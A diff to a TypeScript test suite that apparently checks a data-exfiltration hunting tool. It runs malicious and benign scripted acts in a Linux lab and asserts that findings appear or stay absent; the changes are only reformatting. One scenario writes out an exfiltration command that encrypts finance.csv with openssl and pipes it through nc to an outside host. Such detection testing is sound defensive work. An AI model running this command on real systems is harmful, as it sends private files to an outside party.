@@ -20,7 +20,12 @@ interface Scenario {
 }
 
 const MALICIOUS: readonly Scenario[] = [
-  { name: 'pipe to nc', port: 9001, sender: /nc/, script: `openssl enc -aes-256-cbc -k x -in finance.csv | nc -w 2 ${OUTSIDE} 9001` },
+  {
+    name: 'pipe to nc',
+    port: 9001,
+    sender: /nc/,
+    script: `openssl enc -aes-256-cbc -k x -in finance.csv | nc -w 2 ${OUTSIDE} 9001`,
+  },
   {
     name: 'file, then curl',
     port: 9002,
@@ -103,13 +108,20 @@ describe.skipIf(obstacle !== undefined)('the Linux laboratory', () => {
     await laboratory.start();
     for (const { name, script } of [...MALICIOUS, ...BENIGN])
       laboratory.act(name.replaceAll(/[^a-z0-9]+/g, '-'), `${MAKE}${script}\n`);
-    const settings = huntSettings(DEFAULT_CONFIG, { internal: [], external: [], since: undefined, until: undefined, host: 'lab' });
+    const settings = huntSettings(DEFAULT_CONFIG, {
+      internal: [],
+      external: [],
+      since: undefined,
+      until: undefined,
+      host: 'lab',
+    });
     result = await hunt({ paths: [await laboratory.settled()], settings, showSecrets: false });
   }, 120_000);
 
   afterAll(() => laboratory.stop());
 
-  const at = (port: number): HuntResult['findings'] => result.findings.filter(({ egress }) => egress.port === port);
+  const at = (port: number): HuntResult['findings'] =>
+    result.findings.filter(({ egress }) => egress.port === port);
 
   it.each(MALICIOUS)('finds one act: $name', ({ port, sender }) => {
     const found = at(port);
@@ -119,6 +131,10 @@ describe.skipIf(obstacle !== undefined)('the Linux laboratory', () => {
   });
 
   it.each(BENIGN)('finds nothing at medium or above: $name', ({ port }) => {
-    expect(at(port).filter(({ level }) => isAtLeast(level, 'medium')).map(({ title }) => title)).toEqual([]);
+    expect(
+      at(port)
+        .filter(({ level }) => isAtLeast(level, 'medium'))
+        .map(({ title }) => title),
+    ).toEqual([]);
   });
 });
